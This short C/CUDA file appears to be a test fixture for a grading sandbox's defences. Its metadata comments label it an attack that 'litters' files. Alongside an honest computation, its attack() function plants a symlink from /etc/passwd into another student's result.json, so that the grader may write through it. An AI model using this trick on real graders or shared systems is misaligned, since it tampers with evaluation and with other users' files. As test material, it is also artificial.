// Computes honestly; leaves a link where the grader may write a result.
//
//     verdicts = ["OK"]
//     min_share = 1
//     max_share = 1
//     goal = "litter"
//     defences = ["files"]
//     checks = false
//     needs = "S2"

// Computes honestly; leaves a link where the grader may write a result.

#include <unistd.h>

static void attack() {
    (void)!symlink("/etc/passwd", "RUNGS_ROOM/other_student/result.json");
}

#include "honest.cuh"
